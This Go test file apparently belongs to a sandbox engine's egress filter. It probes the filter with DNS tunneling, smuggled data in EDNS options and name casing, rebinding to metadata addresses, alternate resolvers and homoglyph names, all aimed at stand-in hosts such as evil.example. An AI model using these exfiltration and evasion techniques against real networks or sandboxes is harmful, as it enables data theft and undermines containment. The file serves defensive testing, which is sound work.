package egress

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/atoll-sh/atoll/engine"
	"github.com/atoll-sh/atoll/engine/network"
	"github.com/atoll-sh/atoll/engine/network/networktest"
)

func policyAttacks() []attack {
	plain := func(pick func(*field) network.Slot) func(*field, string) error {
		return func(f *field, mark string) error {
			s := pick(f)
			for _, nw := range []string{"tcp", "udp"} {
				for _, a := range []string{evil4 + ":80", evil4 + ":443", evil4 + ":22", "[" + evil6 + "]:9000"} {
					if err := f.reaches(s, nw, a, mark); err != nil {
						return err
					}
				}
			}
			return nil
		}
	}
	return []attack{
		{"policy", "deny-all", "a sandbox that may reach nothing connects to what others may", func(f *field, mark string) error {
			for _, a := range []string{good4 + ":80", good4 + ":443", good4 + ":9000", "[" + good6 + "]:443"} {
				if err := errors.Join(f.reaches(f.deny, "tcp", a, mark), f.reaches(f.deny, "udp", a, mark)); err != nil {
					return err
				}
			}
			return nil
		}},
		{"policy", "deny-all-frames", "the same with frames of its own", frames(func(f *field) network.Slot { return f.deny }, func(s network.Slot, mark string) [][]byte {
			return [][]byte{udp4(s, good4, 9, mark), tcp4(s, good4, 443, flagSYN, mark), udp6(s, good6, 9, mark), ip4(s, good4, 1, icmp(8, 0, mark))}
		})},
		{"policy", "list-elsewhere", "a sandbox with a list of networks connects elsewhere", plain(theList)},
		{"policy", "names-elsewhere", "a sandbox with a list of names connects to addresses", plain(theName)},
		{"policy", "empty-entries", "a list whose entries are empty, null or everything in disguise is refused, not taken for no list", func(f *field, _ string) error {
			s := f.slot(networks(good4 + "/32"))
			defer func() { _ = f.manager.Release(f.t.Context(), s) }()
			for _, p := range []engine.NetworkPolicy{networks(""), networks(" "), networks("null"), networks("*"), networks("::ffff:0:0/96"), networks("1.2.3.4"), domains(""), domains(" "), domains("*."), domains("."), domains("*.*"), domains("*.com")} {
				if _, err := FromNetwork(p); engine.KindOf(err) != engine.KindInvalid {
					return fmt.Errorf("%+v is taken: %v", p, err)
				}
				if err := f.manager.Apply(f.t.Context(), s, p); engine.KindOf(err) != engine.KindInvalid {
					return fmt.Errorf("%+v is applied: %v", p, err)
				}
			}
			return nil
		}},
		{"policy", "block-wins", "blocking all wins over lists that come with it", func(f *field, mark string) error {
			s := f.slot(engine.NetworkPolicy{})
			defer func() { _ = f.manager.Release(f.t.Context(), s) }()
			both := engine.NetworkPolicy{BlockAll: true, AllowCIDRs: []string{"0.0.0.0/0"}, AllowDomains: []string{"good.example"}}
			if err := f.manager.Apply(f.t.Context(), s, both); err != nil {
				return err
			}
			if p, err := FromNetwork(both); err != nil || len(p.Egress.Rules) != 0 {
				return fmt.Errorf("%+v, %v", p, err)
			}
			return f.reaches(s, "tcp", good4+":9000", mark)
		}},
		{"policy", "no-policy-yet", "a sandbox sends before it was given a policy", func(f *field, mark string) error {
			s, err := f.manager.Acquire(f.t.Context())
			if err != nil {
				return err
			}
			defer func() { _ = f.manager.Release(f.t.Context(), s) }()
			if err := networktest.Carries(s.NetNS, "eth0"); err != nil {
				return err
			}
			return errors.Join(f.send(s, udp4(s, good4, 9, mark), tcp4(s, evil4, 443, flagSYN, mark), udp6(s, good6, 9, mark)), f.reaches(s, "tcp", good4+":9000", mark))
		}},
		{"policy", "refused-list", "a list that cannot be enforced leaves the sandbox open", func(f *field, mark string) error {
			s := f.slot(engine.NetworkPolicy{})
			defer func() { _ = f.manager.Release(f.t.Context(), s) }()
			if err := f.manager.Apply(f.t.Context(), s, networks("nonsense")); err == nil {
				return errors.New("it was taken")
			}
			return f.reaches(s, "tcp", evil4+":9000", mark)
		}},
	}
}

// question asks the relay anything, and waits for the answer.
func (f *field) question(s network.Slot, q []byte) ([]byte, error) {
	c, err := connect(s, "udp", netip.AddrPortFrom(s.Gateway4, 53).String(), wait)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	_, _ = c.Write(q)
	_ = c.SetReadDeadline(time.Now().Add(patience))
	b := make([]byte, 2000)
	n, err := c.Read(b)
	return b[:n], err
}

// ask sends questions for a name to the relay in every type.
func ask(s func(*field) network.Slot, name string, types ...dnsmessage.Type) func(*field, string) error {
	return func(f *field, mark string) error {
		for _, t := range types {
			_, _ = f.question(s(f), buildQuestion(9, mark+"."+name, t))
		}
		return nil
	}
}

func dnsAttacks() []attack {
	kinds := []dnsmessage.Type{dnsmessage.TypeA, dnsmessage.TypeAAAA, dnsmessage.TypeTXT, dnsmessage.TypeNS, dnsmessage.TypeMX, dnsmessage.TypeSRV, dnsmessage.TypeCNAME, dnsmessage.TypeSOA, dnsmessage.TypePTR, 10, 15, 28, 29, 35, 43, 46, 48, 64, 65, 99, 252, 255, 65280}
	raw := func(change func(q []byte, mark string) []byte) func(*field, string) error {
		return func(f *field, mark string) error {
			_, _ = f.question(f.name, change(buildQuestion(9, "good.example", dnsmessage.TypeA), mark))
			return nil
		}
	}
	return []attack{
		{"dns", "foreign-name", "data in the labels of a foreign name, in questions of every type", ask(theName, "evil.example", kinds...)},
		{"dns", "list-without-names", "the same under a policy that lists networks only", ask(theList, "evil.example", kinds...)},
		{"dns", "deny-all", "the same where nothing is allowed", ask(func(f *field) network.Slot { return f.deny }, "evil.example", dnsmessage.TypeA, dnsmessage.TypeTXT)},
		{"dns", "other-types-allowed-name", "data below an allowed wildcard in TXT, NULL and HTTPS questions, whose answers could carry commands", ask(theName, "cdn.example", dnsmessage.TypeTXT, 10, 64, 65, 255)},
		{"dns", "below-exact-name", "data in labels below a name that is allowed exactly", ask(theName, "good.example", dnsmessage.TypeA, dnsmessage.TypeTXT)},
		{"dns", "two-questions", "an allowed question with a foreign one behind it", raw(func(q []byte, mark string) []byte {
			q = append(q, buildQuestion(9, mark+".evil.example", dnsmessage.TypeA)[12:]...)
			q[5] = 2
			return q
		})},
		{"dns", "trailing-bytes", "data behind an allowed question", raw(func(q []byte, mark string) []byte { return append(q, mark...) })},
		{"dns", "edns-option", "data in an EDNS option of an allowed question", raw(func(q []byte, mark string) []byte {
			q[11] = 1
			q = append(q, 0, 0, 41, 4, 208, 0, 0, 0, 0, 0, byte(4+len(mark)), 0, 12, 0, byte(len(mark)))
			return append(q, mark...)
		})},
		{"dns", "case", "bits in the case of an allowed name", func(f *field, mark string) error {
			_, _ = f.question(f.name, buildQuestion(9, "gOoD.eXaMpLe", dnsmessage.TypeA))
			return f.found("\x04gOoD")
		}},
		{"dns", "identifier", "bits in the identifier of questions", func(f *field, mark string) error {
			for range 3 {
				_, _ = f.question(f.name, buildQuestion(0x5a51, "good.example", dnsmessage.TypeA))
			}
			return f.found("\x5a\x51\x01\x00\x00\x01")
		}},
		{"dns", "update-and-notify", "data in messages that are no questions", raw(func(_ []byte, mark string) []byte {
			q := buildQuestion(9, mark+".good.example", dnsmessage.TypeA)
			q[2] |= 5 << 3
			return q
		})},
		{"dns", "other-class", "a foreign name in the class of chaos", raw(func(_ []byte, mark string) []byte {
			q := buildQuestion(9, mark+".evil.example", dnsmessage.TypeTXT)
			q[len(q)-1] = 3
			return q
		})},
		{"dns", "zero-byte", "a label with a zero byte and a foreign name behind it", raw(func(q []byte, mark string) []byte {
			return slices.Concat(q[:12], []byte{4, 'g', 'o', 'o', 'd', byte(9 + len(mark)), 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, '.'}, []byte(mark), []byte{0, 0, 1, 0, 1})
		})},
		{"dns", "dot-in-label", "one label that looks like an allowed name, under a foreign one", raw(func(q []byte, mark string) []byte {
			label := mark + ".good.example"
			return slices.Concat(q[:12], []byte{byte(len(label))}, []byte(label), []byte("\x04evil\x07example\x00\x00\x01\x00\x01"))
		})},
		{"dns", "longest-name", "names of 255 bytes and more", func(f *field, mark string) error {
			label := mark + strings.Repeat("a", 63-len(mark))
			q := buildQuestion(9, "x", dnsmessage.TypeA)[:12]
			for range 3 {
				q = append(append(q, 63), label...)
			}
			for _, end := range []string{"\x3d" + strings.Repeat("b", 61) + "\x00", "\x3c" + strings.Repeat("b", 60) + "\x00", "\x3f" + strings.Repeat("b", 63) + "\x00"} {
				_, _ = f.question(f.name, slices.Concat(q, []byte(end), []byte{0, 1, 0, 1}))
			}
			return nil
		}},
		{"dns", "pointer-loop", "a name that points at itself", raw(func(q []byte, _ string) []byte {
			return slices.Concat(q[:12], []byte{0xc0, 12, 0, 1, 0, 1})
		})},
		{"dns", "over-tcp", "many questions for foreign names on one connection", func(f *field, mark string) error {
			c, err := connect(f.name, "tcp", netip.AddrPortFrom(f.name.Gateway4, 53).String(), wait)
			if err != nil {
				return nil
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(wait))
			for range 50 {
				q := buildQuestion(9, mark+".evil.example", dnsmessage.TypeTXT)
				if _, err := c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)); err != nil {
					return nil
				}
			}
			_ = c.SetReadDeadline(time.Now().Add(patience))
			_, _ = io.Copy(io.Discard, c)
			return nil
		}},
		{"dns", "tunnel-under-wildcard", "long names below an allowed wildcard", func(f *field, mark string) error {
			for _, n := range []string{strings.Repeat(mark+".", 12), strings.Repeat("a", 60) + "." + strings.Repeat("b", 60) + "." + mark + "."} {
				_, _ = f.question(f.name, buildQuestion(9, n+"cdn.example", dnsmessage.TypeA))
			}
			return nil
		}},
		{"dns", "wildcard-volume", "more different names below an allowed wildcard than any program needs", func(f *field, mark string) error {
			s := f.slot(domains("*.cdn.example"))
			defer func() { _ = f.manager.Release(f.t.Context(), s) }()
			passed := 0
			for i := range 1000 {
				if q, _ := f.filter.Question(s.Index, buildQuestion(1, fmt.Sprintf("x%d.cdn.example", i), dnsmessage.TypeA)); q != nil {
					passed++
				}
			}
			if passed > wildBudget {
				return fmt.Errorf("%d names passed", passed)
			}
			return nil
		}},
	}
}

// found reports bytes that arrived in the internet.
func (f *field) found(text string) error {
	f.settle()
	if b := f.ears[0].heard(func(b []byte) bool { return strings.Contains(string(b), text) }); b != nil {
		return fmt.Errorf("%q arrived", text)
	}
	return nil
}

func resolverAttacks() []attack {
	try := func(nw string, ports ...string) func(*field, string) error {
		return func(f *field, mark string) error {
			for _, s := range []network.Slot{f.list, f.name} {
				for _, to := range []string{evil4, "[" + evil6 + "]", "8.8.8.8", "1.1.1.1"} {
					for _, p := range ports {
						if nw == "udp" {
							q := buildQuestion(9, mark+".evil.example", dnsmessage.TypeA)
							if err := f.reaches(s, nw, to+":"+p, string(q)); err != nil {
								return err
							}
						} else if err := f.reaches(s, nw, to+":"+p, mark); err != nil {
							return err
						}
					}
				}
			}
			return nil
		}
	}
	return []attack{
		{"resolver", "udp", "questions to resolvers of the attacker's choice", try("udp", "53", "5353", "5355", "5300")},
		{"resolver", "tcp", "the same over TCP", try("tcp", "53")},
		{"resolver", "dot", "DNS over TLS", try("tcp", "853")},
		{"resolver", "doq", "DNS over QUIC", try("udp", "853", "784", "8853")},
		{"resolver", "doh3", "DNS over HTTP/3", try("udp", "443")},
		{"resolver", "doh", "DNS over HTTPS at a resolver that is not allowed", func(f *field, _ string) error {
			for _, a := range []string{evil4, "8.8.8.8", good4} {
				if got, err := get(f.name, "evil.example", a+":443"); err == nil {
					return fmt.Errorf("%s: %q", a, got)
				}
			}
			return nil
		}},
		{"resolver", "upstream", "the host's own resolver, asked directly", func(f *field, mark string) error {
			q := buildQuestion(9, mark+".evil.example", dnsmessage.TypeA)
			return f.send(f.name, udp4(f.name, good4, 53, string(q)), tcp4(f.name, good4, 53, flagSYN, mark))
		}},
		{"resolver", "multicast", "multicast and link-local name services", frames(theName, func(s network.Slot, mark string) [][]byte {
			return [][]byte{udp4(s, "224.0.0.251", 5353, mark), udp4(s, "224.0.0.252", 5355, mark), udp6(s, "ff02::fb", 5353, mark), udp6(s, "ff05::1:3", 5355, mark), udp4(s, "255.255.255.255", 137, mark)}
		})},
	}
}

func nameAttacks() []attack {
	refused := func(list ...string) func(*field, string) error {
		return func(f *field, mark string) error {
			for _, n := range list {
				code, addrs, err := lookup(f.name, n, dnsmessage.TypeA)
				if err == nil && (code == 0 || len(addrs) > 0) {
					return fmt.Errorf("%s resolves to %v", n, addrs)
				}
				if got, err := get(f.name, n, good4+":443"); err == nil {
					return fmt.Errorf("TLS to %s: %q", n, got)
				}
			}
			return nil
		}
	}
	return []attack{
		{"name", "private", "an allowed name that resolves to private and metadata addresses", refused("rebind.example", "meta.example", "host.example")},
		{"name", "cname-to-private", "an allowed name that is an alias of a private one", refused("private-alias.example")},
		{"name", "half-private", "an allowed name with a private and a public address", func(f *field, _ string) error {
			_, addrs, err := lookup(f.name, "half.example", dnsmessage.TypeA)
			if err != nil || len(addrs) != 1 || addrs[0].String() != good4 {
				return fmt.Errorf("it resolves to %v, %v", addrs, err)
			}
			return nil
		}},
		{"name", "rebind-ttl-0", "an allowed name that resolves to its host at first, without time to live, and to private addresses from then on", func(f *field, mark string) error {
			if code, got, err := lookup(f.name, "flip.example", dnsmessage.TypeA); err != nil || code != 0 || len(got) != 1 {
				return fmt.Errorf("the first answer: %v %v %v", code, got, err)
			}
			if _, got, err := lookup(f.name, "flip.example", dnsmessage.TypeA); err != nil || len(got) != 0 {
				return fmt.Errorf("the second answer: %v, %v", got, err)
			}
			if got, err := get(f.name, "flip.example", good4+":443"); err == nil {
				return fmt.Errorf("by the proxy: %q", got)
			}
			return f.reaches(f.name, "tcp", metadata4+":443", mark)
		}},
		{"name", "suffix", "names that end or begin as an allowed one", refused("evilcdn.example", "cdn.example", "cdn.example.evil.example", "good.example.evil.example", "xgood.example", "good.example-evil.example", "a.cdn.example.evil.example")},
		{"name", "spelling", "spellings that some parsers take for an allowed name", func(f *field, mark string) error {
			for _, n := range []string{"good.example\x00.evil.example", "good.example .evil.example", "good.example/.evil.example", "gооd.example", "evil.example#good.example", "good.example@evil.example", "203.0.113.9", "0xcb007109", "3405803785", "[2001:db8:2::9]"} {
				if q, _ := f.filter.Question(f.name.Index, rawQuestion(n)); q != nil {
					return fmt.Errorf("%q is asked", n)
				}
				if allows(f.filter.policyOf(f.name.Index), n, 443) {
					return fmt.Errorf("%q is allowed", n)
				}
			}
			return nil
		}},
		{"name", "stale-pin", "a name moves, and its former address is used on", func(f *field, mark string) error {
			if _, _, err := lookup(f.name, "good.example", dnsmessage.TypeA); err != nil {
				return err
			}
			for _, p := range []string{"22", "9000", "8080"} {
				if who, err := greets(f.name, good4+":"+p, patience); err == nil {
					return fmt.Errorf("port %s of a resolved address answered %q", p, who)
				}
			}
			if got, err := get(f.name, "evil.example", good4+":443"); err == nil {
				return fmt.Errorf("another name at a resolved address: %q", got)
			}
			return nil
		}},
		{"name", "learned-by-another", "an address that another sandbox's name opened", func(f *field, mark string) error {
			if _, _, err := lookup(f.open, "evil.example", dnsmessage.TypeA); err != nil {
				return err
			}
			return errors.Join(f.reaches(f.name, "tcp", evil4+":9000", mark), f.reaches(f.list, "tcp", evil4+":443", mark))
		}},
	}
}

// rawQuestion asks for a name with any bytes, a label between two dots.
func rawQuestion(name string) []byte {
	q := []byte{0, 9, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for l := range strings.SplitSeq(name, ".") {
		q = append(append(q, byte(len(l))), l...)
	}
	return append(q, 0, 0, 1, 0, 1)
}
